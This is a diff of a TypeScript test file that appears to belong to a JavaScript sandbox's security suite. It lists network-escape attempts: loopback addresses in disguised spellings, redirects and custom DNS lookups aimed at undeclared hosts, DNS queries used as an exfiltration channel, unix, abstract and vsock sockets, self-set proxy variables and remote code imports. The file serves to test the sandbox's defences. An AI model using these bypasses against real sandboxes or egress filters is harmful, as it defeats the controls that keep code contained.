@@ -1,172 +1,330 @@
 /** The network: hosts, ports and sockets that nobody granted. */
 
-import { type Attack, attempt } from "./attack.ts";
+import { type Attack, attempt, deep } from "./attack.ts";
 
-const HOST_PORT = `const { hostname, port } = new URL("__TARGET__");\n`;
+/** What a run's proxy, or a loopback without listeners, answers. */
+const NOBODY =
+  /no network here|fetch failed|EPERM|ECONNREFUSED|Connection refused|os error 111|status (?:403|502)|403 Forbidden/;
+
+const REDIRECTED =
+  `const read = async (to) => { const answer = await fetch("__TARGET__to-" + to); if (answer.status !== 200) throw new Error("status " + answer.status + ": " + await answer.text()); return answer.text(); };\n`;
 
 /** Attacks by way of sockets. */
 export const NETWORK_ATTACKS: readonly Attack[] = [
+  { ...deep("h15"), kind: "net-undeclared", control: "granted" },
   {
-    id: "h15",
-    title: "fetch of an undeclared host",
+    id: "h15-alone",
+    kind: "net-undeclared",
+    title: "a host, where no host is declared at all",
     file: "a.mjs",
-    source: attempt(`await (await fetch("__TARGET__")).text()`),
+    source: deep("h15").source,
     target: "server",
-    control: "granted",
-  },
-  {
-    id: "h15-connect",
-    title: "a plain connection to an undeclared host",
-    file: "a.mjs",
-    source: HOST_PORT +
-      attempt(
-        `await (async () => { const c = await Deno.connect({ hostname, port: Number(port) }); c.close(); return "connected"; })()`,
-      ),
-    target: "server",
-    control: "granted",
-  },
-  {
-    id: "h15-net",
-    title: "node:net to an undeclared host",
-    file: "a.mjs",
-    source: `import net from "node:net";\n` + HOST_PORT +
-      attempt(
-        `await new Promise((res, rej) => { const s = net.connect(Number(port), hostname, () => { s.destroy(); res("connected"); }); s.on("error", rej); })`,
-      ),
-    target: "server",
+    declares: { egress: [] },
     control: "granted",
   },
   {
     id: "h15-websocket",
-    title: "a WebSocket to an undeclared host",
+    kind: "net-undeclared",
+    title: "WebSocket and EventSource to an undeclared host",
     file: "a.mjs",
     source: attempt(
-      `await new Promise((res, rej) => { const w = new WebSocket("__TARGET__".replace("http", "ws")); w.onopen = () => { w.close(); res("open"); }; w.onerror = (e) => rej(new Error(e.message || "refused")); })`,
+      `new Promise((res, rej) => { const w = new WebSocket("__TARGET__".replace("http", "ws")); w.onmessage = (e) => { w.close(); res(e.data); }; w.onerror = (e) => rej(e.error ?? new Error(e.message || "refused")); })`,
+      `new Promise((res, rej) => { const s = new EventSource("__TARGET__"); s.onopen = () => { s.close(); res("events"); }; s.onerror = (e) => { s.close(); rej(new Error("no events came")); }; })`,
     ),
+    target: "websocket",
+    control: "granted",
+    // The server counts who came.
+    words: /no events came|NetworkError|refused/,
+  },
+  {
+    id: "h15-port",
+    kind: "net-port",
+    title: "another port of a granted host",
+    file: "a.mjs",
+    source: deep("h15").source,
     target: "server",
-    control: {
-      none: "the test server speaks no WebSocket; fetch is the control",
-    },
+    declares: { egress: ["127.0.0.1:1"] },
+    grant: { egress: ["127.0.0.1:1"] },
+    control: "granted",
+    words: NOBODY,
   },
   {
     id: "h15-ip",
+    kind: "net-spelling",
     title: "other spellings of a private address",
     file: "a.mjs",
-    source: `const { port } = new URL("__TARGET__"); let got; const why = [];
-for (const h of ["2130706433", "0x7f.1", "127.1", "[::ffff:127.0.0.1]", "0.0.0.0", "localhost", "x@127.0.0.1"]) {
-  try { got ??= await (await fetch("http://" + h + ":" + port + "/")).text(); } catch (error) { why.push(error.message); }
-}
-console.log(got === undefined ? "HELD " + why.join(" | ") : "GOT " + got);
-`,
+    source: `const { port } = new URL("__TARGET__");\n` + attempt(
+      ...[
+        ...[
+          "2130706433",
+          "0x7f.1",
+          "127.1",
+          "0177.0.0.1",
+          "[::ffff:127.0.0.1]",
+        ],
+        ...["[::1]", "0.0.0.0", "localhost", "x@127.0.0.1", "127.0.0.1."],
+        ...["%31%32%37.0.0.1", "①②⑦.0.0.1", "localhost."],
+      ].map((host) =>
+        `(await fetch("http://${host}:" + port + "/")).text().then((text) => text.includes("secret") ? text : Promise.reject(new Error(text)))`
+      ),
+    ),
     target: "server",
     control: "bare",
+    words: /Invalid URL|URL scheme|credentials/i,
+  },
+  {
+    id: "h17",
+    kind: "net-rebinding",
+    title: "a declared name that resolves to loopback",
+    file: "a.mjs",
+    source: `import net from "node:net";
+const { port } = new URL("__TARGET__"), hostname = "localhost";
+` + attempt(
+        `(async () => { const r = await fetch("http://localhost:" + port + "/"); if (r.status !== 200) throw new Error("status " + r.status); return r.text(); })()`,
+        `(await Deno.connect({ hostname, port: Number(port) }), "connected")`,
+        `new Promise((yes, no) => net.connect(Number(port), hostname, () => yes("node:net")).on("error", no))`,
+      ),
+    target: "server",
+    // Nobody named localhost exactly, so it stays private although declared.
+    declares: { egress: ["localhost", "localhost:__PORT__"] },
+    control: "bare",
+    words: NOBODY,
+  },
+  {
+    id: "h16",
+    kind: "net-redirect",
+    title: "a redirect of a granted host to an undeclared one",
+    file: "a.mjs",
+    source: REDIRECTED + attempt(
+      `read("localhost")`,
+      `read("another")`,
+      `read("file")`,
+    ),
+    target: "redirects",
+    declares: { egress: ["__HOST__"] },
+    grant: { egress: ["__HOST__"] },
+    control: "granted",
+    granted: {
+      declares: { egress: ["__HOST__"] },
+      grant: { egress: ["__HOST__"] },
+      source: REDIRECTED + attempt(`read("itself")`),
+    },
+    words: /scheme|redirect|status 403/i,
   },
   {
     id: "h18",
+    kind: "net-lookup",
     title: "a lookup function that answers for a declared name",
     file: "a.mjs",
     source:
-      `import net from "node:net";\nconst { port } = new URL("__TARGET__");\n` +
-      attempt(
-        `await new Promise((res, rej) => { const s = net.connect({ port: Number(port), host: "declared.example.com", lookup: (h, o, cb) => o?.all ? cb(null, [{ address: "127.0.0.1", family: 4 }]) : cb(null, "127.0.0.1", 4) }, () => { s.destroy(); res("connected"); }); s.on("error", rej); })`,
+      `import net from "node:net"; import http from "node:http";\nconst { port } = new URL("__TARGET__");
+const lookup = (h, o, cb) => o?.all ? cb(null, [{ address: "127.0.0.1", family: 4 }]) : cb(null, "127.0.0.1", 4);
+` + attempt(
+        `new Promise((res, rej) => { const s = net.connect({ port: Number(port), host: "declared.invalid", lookup }, () => { s.destroy(); res("connected"); }); s.on("error", rej); })`,
+        `new Promise((res, rej) => http.get({ port: Number(port), host: "declared.invalid", lookup }, (r) => { r.resume(); r.statusCode === 200 ? res("node:http") : rej(new Error("status " + r.statusCode)); }).on("error", rej))`,
       ),
     target: "server",
+    declares: {
+      egress: ["declared.invalid", "declared.invalid:__PORT__"],
+    },
     control: "bare",
+    words: NOBODY,
   },
   {
     id: "h19",
-    title: "node:http with its own agent",
+    kind: "net-lookup",
+    title: "node:http with an agent that connects elsewhere",
     file: "a.mjs",
-    source: `import http from "node:http";\n` +
-      attempt(
-        `await new Promise((res, rej) => http.get("__TARGET__", { agent: new http.Agent({ keepAlive: true }) }, (r) => { r.resume(); res("status " + r.statusCode); r.socket.destroy(); }).on("error", rej))`,
+    source: `import http from "node:http"; import net from "node:net";
+const { port } = new URL("__TARGET__");
+` + attempt(
+        `new Promise((res, rej) => http.get("__TARGET__", { agent: new http.Agent({ keepAlive: true }) }, (r) => { r.resume(); r.statusCode === 200 ? res("status 200") : rej(new Error("status " + r.statusCode)); }).on("error", rej))`,
+        `new Promise((res, rej) => http.get("http://declared.invalid/", { createConnection: () => net.connect(Number(port), "127.0.0.1") }, (r) => { r.resume(); res("created"); }).on("error", rej))`,
       ),
     target: "server",
     control: "granted",
+    words: NOBODY,
   },
   {
-    id: "h20",
-    title: "a unix socket",
+    id: "dns",
+    kind: "net-dns",
+    title: "names looked up as a way out",
     file: "a.mjs",
-    source: attempt(
-      `await (async () => { const c = await Deno.connect({ transport: "unix", path: "__TARGET__" }); c.close(); return "connected"; })()`,
+    source: `import dns from "node:dns"; import dgram from "node:dgram";
+const soon = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no(new Error("no answer")), 500))]);
+const [ipAddr, port] = "__TARGET__".split(":");
+` + attempt(
+        `(await soon(Deno.resolveDns("secret.example.com", "A", { nameServer: { ipAddr, port: Number(port) } }))).join()`,
+        `(async () => { const r = new dns.promises.Resolver(); r.setServers(["__TARGET__"]); return (await soon(r.resolve4("secret.example.com"))).join(); })()`,
+        `soon(new Promise((yes, no) => { const s = dgram.createSocket("udp4"); s.on("error", no); s.on("message", () => yes("answered")); s.send(new Uint8Array(20), Number(port), ipAddr, (e) => e && no(e)); }))`,
+      ),
+    target: "resolver",
+    control: "bare",
+    // Whoever is asked counts it.
+    words:
+      /no answer|query\w* UNKNOWN|ETIMEOUT|EREFUSED|ECONNREFUSED|ENOTFOUND/,
+  },
+  {
+    id: "dns-lookup",
+    kind: "net-dns",
+    title: "an undeclared name handed to the system's resolver",
+    file: "a.mjs",
+    source: `import dns from "node:dns";\n` + attempt(
+      `(await dns.promises.lookup("localhost")).address`,
+      `(await Deno.resolveDns("localhost", "A")).join()`,
+    ),
+    target: "none",
+    control: "bare",
+    words:
+      /EPERM|ENOTFOUND|EAI_AGAIN|ETIMEOUT|ECONNREFUSED|No such file|Permission denied/,
+  },
+  { ...deep("h20"), kind: "unix-socket", control: "bare", linux: true },
+  {
+    id: "h21",
+    kind: "unix-socket",
+    title: "a unix socket through node:http, and one it makes",
+    file: "a.mjs",
+    source: `import http from "node:http";\n` + attempt(
+      `new Promise((yes, no) => http.get({ socketPath: "__TARGET__", path: "/" }, (r) => { r.resume(); yes("status " + r.statusCode); }).on("error", no))`,
+      `(await fetch("http://x/", { client: Deno.createHttpClient({ proxy: { transport: "unix", path: "__TARGET__" } }) })).text()`,
     ),
     target: "socket",
     control: "bare",
+    linux: true,
+    words: /no network here/,
   },
   {
-    id: "h21",
-    title: "a unix socket through node:net",
-    file: "a.mjs",
-    source: `import net from "node:net";\n` +
-      attempt(
-        `await new Promise((res, rej) => { const s = net.connect("__TARGET__", () => { s.destroy(); res("connected"); }); s.on("error", rej); })`,
-      ),
-    target: "socket",
+    ...deep("abstract"),
+    kind: "abstract-socket",
     control: "bare",
+    linux: true,
+    scoped: true,
   },
   {
-    id: "h39",
-    title: "listening",
+    id: "vsock",
+    kind: "vsock",
+    title: "a socket to the hypervisor",
     file: "a.mjs",
-    source: `const why = []; let got;
-for (const hostname of ["0.0.0.0", "127.0.0.1", "localhost", "[::1]"]) { try { const l = Deno.listen({ port: 0, hostname }); got ??= l.addr.port; l.close(); } catch (error) { why.push(error.message); } }
-try { const l = Deno.listenDatagram?.({ port: 0, hostname: "127.0.0.1", transport: "udp" }); if (l) { got ??= "udp"; l.close(); } } catch (error) { why.push(error.message); }
-console.log(got === undefined ? "HELD " + why.join(" | ") : "GOT " + got);
-`,
+    source: attempt(
+      `(await Deno.connect({ transport: "vsock", cid: 2, port: 1 }), "connected")`,
+      `(Deno.listen({ transport: "vsock", cid: -1, port: 0 }), "listening")`,
+    ),
     target: "none",
-    control: "bare",
+    control: { none: "the API is absent without its unstable flag" },
+    words: /--unstable-vsock|not a function|unstable|Unstable/,
   },
+  {
+    id: "quic",
+    kind: "vsock",
+    title: "QUIC and datagrams of the runtime's own",
+    file: "a.mjs",
+    source: attempt(
+      `new Deno.QuicEndpoint({ hostname: "127.0.0.1", port: 0 }).addr.port`,
+      `Deno.listenDatagram({ port: 0, hostname: "127.0.0.1", transport: "udp" }).addr.port`,
+    ),
+    target: "none",
+    control: { none: "the APIs are absent without their unstable flags" },
+    words: /not a (?:function|constructor)|--unstable|Unstable/,
+  },
+  { ...deep("h39"), kind: "listen", control: "bare" },
   {
     id: "h39-dgram",
-    title: "a datagram through node:dgram",
+    kind: "listen",
+    title: "listening for datagrams and through node",
     file: "a.mjs",
-    source: `import dgram from "node:dgram";\n` +
+    source:
+      `import dgram from "node:dgram"; import http from "node:http"; import net from "node:net";\n` +
       attempt(
-        `await new Promise((res, rej) => { const s = dgram.createSocket("udp4"); s.on("error", rej); s.bind(0, "127.0.0.1", () => { s.close(); res("bound"); }); })`,
+        `new Promise((res, rej) => { const s = dgram.createSocket("udp4"); s.on("error", rej); s.bind(0, "127.0.0.1", () => { s.close(); res("bound"); }); })`,
+        `new Promise((res, rej) => { const s = http.createServer(); s.on("error", rej); s.listen(0, "127.0.0.1", () => { s.close(); res("http"); }); })`,
+        `new Promise((res, rej) => { const s = net.createServer(); s.on("error", rej); s.listen(0, () => { s.close(); res("net"); }); })`,
       ),
     target: "none",
+    control: "bare",
+  },
+  {
+    id: "h56",
+    kind: "proxy-variables",
+    title: "a proxy that the script sets for itself",
+    file: "a.mjs",
+    source: `import process from "node:process"; import http from "node:http";
+const url = await (await fetch("__TARGET__where")).text();
+for (const name of ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"]) {
+  try { Deno.env.set(name, url); } catch { /* refused is held */ }
+  process.env[name] = url;
+}
+const straight = () => Promise.reject(new Error("it went straight there"));
+` + attempt(
+        `fetch("__TARGET__").then(straight)`,
+        `new Promise((yes, no) => http.get("__TARGET__", (r) => { r.resume(); no(new Error("it went straight there")); }).on("error", no))`,
+        `(await fetch("__TARGET__", { client: Deno.createHttpClient({ proxy: { url } }) })).text()`,
+      ),
+    target: "redirects",
+    declares: { egress: ["__HOST__"] },
+    grant: { egress: ["__HOST__"] },
+    control: "bare",
+    words: /it went straight there|no network here/,
+  },
+  {
+    id: "sockets",
+    kind: "net-shared",
+    title: "an undeclared host, where the network itself is granted",
+    file: "a.mjs",
+    source: deep("h15").source,
+    target: "server",
+    declares: { egress: ["declared.invalid"], sockets: true },
+    grant: { sockets: true, egress: ["declared.invalid"] },
+    control: "granted",
+  },
+  {
+    id: "sockets-abstract",
+    linux: true,
+    kind: "net-shared",
+    title: "an abstract socket, where the network itself is granted",
+    file: "a.mjs",
+    source: deep("abstract").source,
+    target: "abstract",
+    declares: { egress: ["declared.invalid"], sockets: true },
+    grant: { sockets: true, egress: ["declared.invalid"] },
+    control: "bare",
+  },
+  {
+    id: "h57-granted",
+    kind: "module-remote",
+    title: "importing code from a host that is granted for data",
+    file: "a.mjs",
+    source: attempt(
+      `(await import(["__TARGET__", "mod.mjs"].join(""))).secret`,
+    ),
+    target: "server",
+    declares: { egress: ["__HOST__"] },
+    grant: { egress: ["__HOST__"] },
     control: "bare",
   },
   {
     id: "h57",
+    kind: "module-remote",
     title: "importing code from the network",
     file: "a.mjs",
-    source: attempt(`(await import("__TARGET__mod.mjs")).secret`),
+    source: attempt(
+      `(await import("__TARGET__mod.mjs")).secret`,
+      `(await import(["__TARGET__", "mod.mjs"].join(""))).secret`,
+    ),
     target: "server",
     control: "bare",
   },
   {
     id: "h57-registry",
-    title: "importing code from a package registry",
+    kind: "module-registry",
+    title: "importing code from registries and well-known hosts",
     file: "a.mjs",
     source: attempt(
-      `await (async () => { const why = []; for (const s of ["npm:left-pad", "jsr:@x/y"]) { try { await import(s); return s; } catch (e) { why.push(e.message); } } throw new Error(why.join(" | ")); })()`,
+      ...[
+        ...["npm:left-pad", "jsr:@x/y", "https://deno.land/x/y.ts"],
+        ...["https://esm.sh/x", "https://jsr.io/@x/y/1.0.0/mod.ts"],
+      ].map((specifier) => `(await import(["${specifier}"].join(""))).default`),
     ),
     target: "none",
     control: { none: "a control would contact a registry" },
-  },
-  {
-    id: "h57-dns",
-    title: "a name looked up as a way out",
-    file: "a.mjs",
-    source: attempt(
-      `(await Deno.resolveDns("secret.example.com", "TXT", { nameServer: { ipAddr: "127.0.0.1", port: 53 } })).join()`,
-    ),
-    target: "none",
-    control: { none: "a name server is no part of the tests" },
-  },
-  {
-    id: "h73",
-    title: "an inherited descriptor taken as a socket",
-    file: "a.mjs",
-    source: `import net from "node:net";\n` +
-      attempt(
-        `await (async () => { const why = []; for (let fd = 3; fd < 32; fd++) { try { const s = new net.Socket({ fd }); s.on("error", () => {}); if (s.remoteAddress) return "a connected socket at " + fd; why.push(fd); } catch (e) { why.push(e.message); } } console.log("HELD none of " + why.length + " was a socket"); Deno.exit(0); })()`,
-      ),
-    target: "none",
-    control: {
-      none: "descriptors_test shows the inherited descriptor and its absence",
-    },
   },
 ];
